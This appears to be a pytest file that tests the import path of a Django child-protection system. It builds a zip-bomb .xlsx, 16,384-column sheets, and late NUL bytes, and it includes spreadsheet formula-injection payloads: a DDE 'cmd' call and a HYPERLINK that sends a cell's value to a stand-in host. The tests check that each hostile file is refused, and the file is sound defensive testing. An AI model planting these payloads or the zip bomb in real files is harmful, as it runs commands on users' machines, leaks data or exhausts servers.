"""Hostile and broken files at the import: each ends in a Vietnamese message, nothing is written, and
the worker that reads them stays alive with bounded memory.

The files are made here: a zip bomb (an .xlsx whose sheet inflates to hundreds of MB of repeated cells), 16,384
columns (in the header, in the data, and hidden behind a false <dimension>), NUL bytes late in a CSV, mixed line
endings, and formula-looking cells in the address column. What is data and what is refused:

- a cell starting with "=" is a formula: the row is refused (also "+", "-" or "@" followed by a function call, such as
  "+HYPERLINK(...)" or "-cmd|...", which Excel runs as formulas too);
- "+84 912 345 678", "-" and "- không rõ -" are data: imported as text as they are, neutralised when exported.

The memory tests read the file in a separate Python process, as the Celery worker does, under an address-space limit,
and report its peak resident memory (ru_maxrss).
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook

from cases.models import Child
from childprotect.core.imports import FileRefused, read_table
from childprotect.core.models import ImportStatus
from tests.support.builders import COLUMNS, child_row, csv_file

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("eager_celery")]


REPO_ROOT = Path(__file__).resolve().parents[2]
RSS_LIMIT_MB = 512


def _xlsx_with_sheet(sheet_xml_chunks, *, level: int = 9) -> bytes:
    """A genuine workbook made by openpyxl, its first sheet replaced by the given XML (streamed into the zip)."""
    book = Workbook()
    book.active.append(COLUMNS)
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with target.open(
                    zipfile.ZipInfo(info.filename, date_time=info.date_time), "w", force_zip64=True
                ) as handle:
                    for chunk in sheet_xml_chunks:
                        handle.write(chunk)
            else:
                target.writestr(info, source.read(info.filename), compress_type=zipfile.ZIP_DEFLATED)
    # Rewrite every entry compressed (ZipInfo defaults to stored): the bomb needs deflate.
    return _recompress(out.getvalue(), level)


def _recompress(content: bytes, level: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            entry = zipfile.ZipInfo(info.filename, date_time=info.date_time)
            entry.compress_type = zipfile.ZIP_DEFLATED
            with source.open(info) as src, target.open(entry, "w", force_zip64=True) as dst:
                while chunk := src.read(1 << 20):
                    dst.write(chunk)
    return out.getvalue()


SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def _inline(text: str, ref: str = "") -> bytes:
    r = f' r="{ref}"' if ref else ""
    return f'<c{r} t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def _header_row() -> bytes:
    return b'<row r="1">' + b"".join(_inline(h) for h in COLUMNS) + b"</row>"


def _zip_bomb(megabytes: int = 300) -> bytes:
    """A sheet that inflates to `megabytes` MB of the same row repeated (about 1,000:1), declaring no <dimension>
    (read-only openpyxl would otherwise stop at the declared last row)."""
    row = b"<row>" + b"".join(_inline(v) for v in child_row("Nguyễn Văn An")) + b"</row>"
    block = row * (1_048_576 // len(row))

    def chunks():
        yield SHEET_HEAD + b"<sheetData>" + _header_row()
        for _ in range(megabytes):
            yield block
        yield b"</sheetData></worksheet>"

    return _xlsx_with_sheet(chunks())


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("bomb") / "bom.xlsx"
    path.write_bytes(_zip_bomb())
    return path


def _read_in_a_worker_process(path: Path, filename: str, env: dict[str, str] | None = None) -> dict:
    """read_table(file) in a fresh Python process (as the worker runs it): its outcome and its peak RSS in MB."""
    script = (
        "import json, resource, sys, django\n"
        "django.setup()\n"
        "from childprotect.core.imports import FileRefused, read_table\n"
        "from cases.imports import ChildImporter\n"
        "content = open(sys.argv[1], 'rb').read()\n"
        "try:\n"
        "    rows = read_table(content, sys.argv[2], ChildImporter.columns)\n"
        "    outcome = {'rows': len(rows)}\n"
        "except FileRefused as refusal:\n"
        "    outcome = {'refused': str(refusal)}\n"
        "outcome['rss_mb'] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024\n"
        "print(json.dumps(outcome))\n"
    )

    def limit_memory() -> None:  # a runaway reader fails here instead of swapping the machine
        resource.setrlimit(resource.RLIMIT_AS, (1536 * 1048576, 1536 * 1048576))

    result = subprocess.run(  # noqa: S603 (our interpreter, our script)
        [sys.executable, "-c", script, str(path), filename],
        cwd=REPO_ROOT,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": "childprotect.settings_test", **(env or {})},
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=limit_memory,  # noqa: PLW1509
        check=False,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    return json.loads(result.stdout.strip().splitlines()[-1])


# --- .xlsx ---------------------------------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_before_it_is_inflated_and_the_worker_stays_small(zip_bomb):
    assert zip_bomb.stat().st_size < 2 * 1048576  # a small upload...
    with zipfile.ZipFile(zip_bomb) as archive:
        assert archive.getinfo("xl/worksheets/sheet1.xml").file_size > 250 * 1048576  # ...of hundreds of MB

    outcome = _read_in_a_worker_process(zip_bomb, "bom.xlsx")

    assert "giải nén" in outcome.get("refused", ""), outcome
    assert outcome["rss_mb"] < RSS_LIMIT_MB, outcome
    print(f"zip bomb: peak RSS of the reading process {outcome['rss_mb']:.0f} MB")


def test_a_zip_bomb_upload_ends_refused_and_writes_nothing(import_upload, supervisor, zip_bomb):
    job = import_upload(supervisor, zip_bomb.read_bytes(), "bom.xlsx")

    assert job.status == ImportStatus.REFUSED
    assert "giải nén" in job.plan["message"]
    assert not Child.objects.exists()


def _wide_sheet(where: str) -> bytes:
    """16,384 columns: in the header (XFD1), or one data cell at XFD3; the <dimension> says so, or lies (A1:J3)."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    if where == "header":
        sheet.append([*COLUMNS, *(f"Cột {i}" for i in range(len(COLUMNS) + 1, 16385))])
        sheet.append(child_row("Nguyễn Văn An"))
    else:
        sheet.append(COLUMNS)
        sheet.append(child_row("Nguyễn Văn An"))
        sheet.append([*child_row("Lê Thị Hoa"), *([None] * (16384 - len(COLUMNS) - 1)), "x"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _lying_wide_sheet() -> bytes:
    rows = (
        _header_row()
        + b'<row r="2">'
        + b"".join(_inline(v) for v in child_row("Nguyễn Văn An"))
        + _inline("x", "XFD2")
        + b"</row>"
    )
    return _xlsx_with_sheet([SHEET_HEAD, b'<dimension ref="A1:J3"/><sheetData>', rows, b"</sheetData></worksheet>"])


@pytest.mark.parametrize("where", ["header", "data", "hidden", "csv-header", "csv-data"])
def test_16384_columns_are_refused_by_the_column_limit(import_upload, supervisor, where):
    wide = [f"Cột {i}" for i in range(len(COLUMNS) + 1, 16385)]
    if where == "csv-header":
        content, name = csv_file([child_row("Nguyễn Văn An")], [*COLUMNS, *wide]), "rong.csv"
    elif where == "csv-data":
        content, name = csv_file([child_row("Nguyễn Văn An"), [*child_row("Lê Thị Hoa"), *wide]]), "rong.csv"
    else:
        content, name = (_lying_wide_sheet() if where == "hidden" else _wide_sheet(where)), "rong.xlsx"

    job = import_upload(supervisor, content, name)

    assert job.status == ImportStatus.REFUSED, job.plan
    assert "quá nhiều cột" in job.plan["message"]
    assert "16384" in job.plan["message"].replace(".", "")
    assert not Child.objects.exists()


def test_16384_columns_stay_small_in_the_worker(tmp_path):
    path = tmp_path / "rong.xlsx"
    path.write_bytes(_wide_sheet("data"))

    outcome = _read_in_a_worker_process(path, "rong.xlsx")

    assert "quá nhiều cột" in outcome.get("refused", ""), outcome
    assert outcome["rss_mb"] < RSS_LIMIT_MB, outcome


def test_a_declared_dimension_over_the_row_limit_is_refused_unread(settings):
    settings.CHILDPROTECT_IMPORT_MAX_ROWS = 1000
    sheet = [SHEET_HEAD, b'<dimension ref="A1:J1048576"/><sheetData>', _header_row(), b"</sheetData></worksheet>"]

    with pytest.raises(FileRefused, match="quá nhiều dòng"):
        read_table(_xlsx_with_sheet(sheet), "dai.xlsx", _child_columns())


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_more_rows_than_the_setting_are_refused(settings, kind):
    settings.CHILDPROTECT_IMPORT_MAX_ROWS = 50
    rows = [child_row(f"Trẻ em số {i}") for i in range(51)]
    if kind == "csv":
        content = csv_file(rows)
    else:
        book = Workbook(write_only=True)
        sheet = book.create_sheet()
        for row in [COLUMNS, *rows]:
            sheet.append(row)
        out = io.BytesIO()
        book.save(out)
        content = out.getvalue()

    with pytest.raises(FileRefused, match="quá nhiều dòng.*tối đa 50"):
        read_table(content, f"dai.{kind}", _child_columns())
    settings.CHILDPROTECT_IMPORT_MAX_ROWS = 51
    assert len(read_table(content, f"dai.{kind}", _child_columns())) == 51


def _child_columns():
    from cases.imports import ChildImporter

    return ChildImporter.columns


# --- CSV -----------------------------------------------------------------------------------------------------------


def test_nul_bytes_late_in_a_csv_are_refused_naming_the_row(import_upload, supervisor):
    rows = [child_row(f"Trẻ em số {i}") for i in range(6000)]
    rows[4998] = child_row("Trẻ em\x00 số 4998")  # row 5000 of the sheet (the header is row 1)
    content = csv_file(rows)
    assert b"\x00" not in content[:8192]

    job = import_upload(supervisor, content)

    assert job.status == ImportStatus.REFUSED, job.plan
    assert "ký tự NUL" in job.plan["message"]
    assert "dòng 5000" in job.plan["message"]
    assert not Child.objects.exists()


def test_mixed_line_endings_are_read_as_rows(import_upload, import_confirm, supervisor):
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(COLUMNS)
    lines = [out.getvalue().rstrip("\n")]
    for name in ("Nguyễn Văn An", "Lê Thị Hoa", "Trần Minh Khôi", "Phạm Thu Hà"):
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="").writerow(child_row(name))
        lines.append(buffer.getvalue())
    content = ("\ufeff" + lines[0] + "\r\n" + lines[1] + "\n" + lines[2] + "\r" + lines[3] + "\r\n" + lines[4]).encode()

    job = import_upload(supervisor, content)

    assert job.status == ImportStatus.CHECKED, job.plan
    assert job.plan["rows"] == job.plan["create"] == 4
    import_confirm(job)
    assert sorted(Child.objects.values_list("full_name", flat=True)) == sorted(
        ["Nguyễn Văn An", "Lê Thị Hoa", "Trần Minh Khôi", "Phạm Thu Hà"]
    )


ADDRESS_COLUMNS = [*COLUMNS, "Địa chỉ"]


def _with_address(name: str, address: str) -> list[str]:
    return [*child_row(name), address]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "address",
    ['=HYPERLINK("http://x.example/?q="&A2,"Bấm vào đây")', '+HYPERLINK("http://x.example")', "-cmd|' /C calc'!A0"],
    ids=["equals", "plus-function", "dde"],
)
def test_a_formula_in_the_address_column_refuses_the_row(import_upload, supervisor, kind, address):
    rows = [_with_address("Trẻ em tốt", "Thôn 1"), _with_address("Nguyễn Văn An", address)]
    if kind == "csv":
        content, name = csv_file(rows, ADDRESS_COLUMNS), "tre-em.csv"
    else:
        book = Workbook(write_only=True)
        sheet = book.create_sheet()
        for row in [ADDRESS_COLUMNS, *rows]:
            sheet.append(row)
        out = io.BytesIO()
        book.save(out)
        content, name = out.getvalue(), "tre-em.xlsx"

    job = import_upload(supervisor, content, name)

    assert job.status == ImportStatus.REFUSED, job.plan
    assert job.plan["errors"][0][0] == 3
    assert "công thức" in job.plan["errors"][0][1]
    assert not Child.objects.exists()


def test_phone_like_and_dash_addresses_are_data_kept_as_text_and_neutralised_on_export(
    import_upload, import_confirm, client, supervisor
):
    addresses = {"Nguyễn Văn An": "+84 912 345 678", "Lê Thị Hoa": "-", "Trần Minh Khôi": "- không rõ -"}
    job = import_upload(supervisor, csv_file([_with_address(n, a) for n, a in addresses.items()], ADDRESS_COLUMNS))
    assert job.status == ImportStatus.CHECKED, job.plan
    import_confirm(job)
    assert dict(Child.objects.values_list("full_name", "address")) == addresses

    response = client.get(reverse("cases:child_export"), {"format": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    exported = {r["Họ và tên"]: r["Địa chỉ"] for r in csv.DictReader(io.StringIO(text))}
    assert exported == {name: "'" + address for name, address in addresses.items()}


def test_an_upload_page_shows_the_refusal(client, import_upload, supervisor):
    job = import_upload(supervisor, _wide_sheet("header"), "rong.xlsx")
    response = client.get(reverse("import_detail", args=[job.pk]))
    assert "quá nhiều cột" in response.content.decode()
